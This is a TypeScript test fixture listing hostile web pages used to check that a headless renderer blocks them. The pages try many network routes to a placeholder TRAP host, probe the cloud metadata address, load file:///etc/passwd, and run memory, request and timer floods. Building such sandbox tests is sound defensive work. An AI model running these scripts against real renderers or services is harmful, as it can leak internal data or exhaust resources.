// Pages that attack what renders them, and what must be stored about each of them.

/** A hostile page. `TRAP` is the authority of a server that must get no connection, `UDP` that of a socket that must get no packet. */
export interface HostilePage {
  readonly path: string;
  readonly script: string;
  /** Parts of the outcome. */
  readonly expected: Readonly<Record<string, unknown>>;
  /** It takes all of its time. */
  readonly isEndless?: true;
  /** The page fails with one of these codes. */
  readonly codes?: readonly string[];
}

const AFTER = "document.title = 'After'";
const RENDERED = { kind: 'rendered', after: { title: 'After' } };
const refused = (url: string, why: string) => ({ ...RENDERED, refused: [{ url, why }] });
const append = (element: string): string => `document.body.insertAdjacentHTML('beforeend', '${element}');`;

/** Each way to the network, and whether this process has seen and refused the request. */
const WAYS: readonly (readonly [name: string, script: string, refusedUrl?: string])[] = [
  ['fetch', "fetch('http://TRAP/').catch(() => {});", 'http://TRAP/'],
  ['metadata', "fetch('http://169.254.169.254/latest/').catch(() => {});", 'http://169.254.169.254/latest/'],
  ['local-name', "fetch('http://localhost:TRAPPORT/').catch(() => {});", 'http://localhost:TRAPPORT/'],
  ['redirect', "fetch('/to-trap').catch(() => {});", 'http://TRAP/redirected'],
  ['xhr', "const x = new XMLHttpRequest(); x.open('GET', 'http://TRAP/'); x.send();", 'http://TRAP/'],
  [
    'script',
    "const s = document.createElement('script'); s.src = 'http://TRAP/'; document.body.append(s);",
    'http://TRAP/',
  ],
  ['frame', append('<iframe src="http://TRAP/"></iframe>'), 'http://TRAP/'],
  ['event-source', "new EventSource('http://TRAP/');", 'http://TRAP/'],
  ['worker', "new Worker(URL.createObjectURL(new Blob([`fetch('http://TRAP/')`])));"],
  ['shared-worker', "new SharedWorker(URL.createObjectURL(new Blob([`fetch('http://TRAP/')`])));"],
  ['service-worker', "navigator.serviceWorker.register('/worker.js').catch(() => {});"],
  ['image', "new Image().src = 'http://TRAP/image.png';"],
  ['beacon', "navigator.sendBeacon('http://TRAP/', 'x');"],
  ['socket', "new WebSocket('ws://TRAP/');"],
  [
    'preconnect',
    append('<link rel="preconnect" href="http://TRAP/"><link rel="prefetch" href="http://TRAP/">'),
  ],
  ['file', append('<iframe src="file:///etc/passwd"></iframe>')],
  [
    'peer',
    `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }, { urls: 'turn:TRAP?transport=tcp', username: 'a', credential: 'b' }] });
     peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`,
  ],
  ['transport', "try { new WebTransport('https://UDP/').ready.catch(() => {}); } catch {}"],
  ['location', "location.href = 'http://TRAP/';"],
  [
    'form',
    `${append('<form method="post" action="http://TRAP/"></form>')} document.querySelector('form').submit();`,
  ],
  [
    'download',
    `${append('<a download href="http://TRAP/file">x</a>')} document.querySelector('[download]').click();`,
  ],
  ['window', "open('http://TRAP/'); open('/kept');"],
];

export const HOSTILE_PAGES: readonly HostilePage[] = [
  ...WAYS.map(([name, script, url]) => ({
    path: `/network/${name}`,
    script: `${script} ${AFTER};`,
    expected: url === undefined ? RENDERED : refused(url, 'robots-unreachable'),
  })),
  { path: '/endless', script: 'for (;;);', expected: { kind: 'failure', code: 'timeout' }, isEndless: true },
  {
    path: '/endless-later',
    script: `${AFTER}; setTimeout(() => { for (;;); }, 100);`,
    expected: { kind: 'failure', code: 'timeout' },
    isEndless: true,
  },
  {
    path: '/memory',
    script: 'const all = []; for (;;) all.push(new Uint8Array(20_000_000).fill(1));',
    expected: { kind: 'failure' },
    codes: ['memory', 'crashed'],
  },
  {
    path: '/heap',
    script: 'const all = []; for (;;) all.push({ a: [all.length] });',
    expected: { kind: 'failure' },
    codes: ['memory', 'crashed', 'timeout'],
    isEndless: true,
  },
  {
    path: '/elements',
    script: "document.body.innerHTML = '<i></i>'.repeat(300_000);",
    expected: { kind: 'failure', code: 'too-large' },
  },
  {
    path: '/long-text',
    script: `document.body.title = 'x'.repeat(50_000_000); ${AFTER};`,
    expected: RENDERED,
  },
  {
    path: '/many-requests',
    script: `for (let n = 0; n < 10_000; n++) fetch('/data.json?' + n).catch(() => {}); ${AFTER};`,
    expected: { kind: 'failure', code: 'requests' },
  },
  {
    path: '/requests-without-end',
    script: `${AFTER}; let n = 0; const again = () => fetch('/data.json?' + n++).catch(() => {}).then(again); for (let i = 0; i < 50; i++) again();`,
    expected: {},
    isEndless: true,
  },
  {
    path: '/dialogs',
    script: `for (let n = 0; n < 50; n++) { alert(n); confirm(n); prompt(n); } ${AFTER}; onbeforeunload = (event) => event.preventDefault();`,
    expected: RENDERED,
  },
  {
    path: '/windows',
    script: `for (let n = 0; n < 1_000; n++) open('/kept'); ${AFTER};`,
    expected: RENDERED,
  },
  {
    path: '/navigations',
    script: `${AFTER}; let n = 0; setInterval(() => { location.href = '/kept?' + n++; }, 1);`,
    expected: { ...RENDERED, redirect: 'ORIGIN/kept?0' },
    isEndless: true,
  },
  {
    path: '/timers',
    script: `${AFTER}; const f = () => { setTimeout(f); setTimeout(f); }; f();`,
    expected: {},
    isEndless: true,
  },
  { path: '/closes', script: `${AFTER}; close();`, expected: RENDERED },
  {
    path: '/empty',
    script: 'document.documentElement.remove();',
    expected: { kind: 'rendered', after: { title: null } },
  },
];
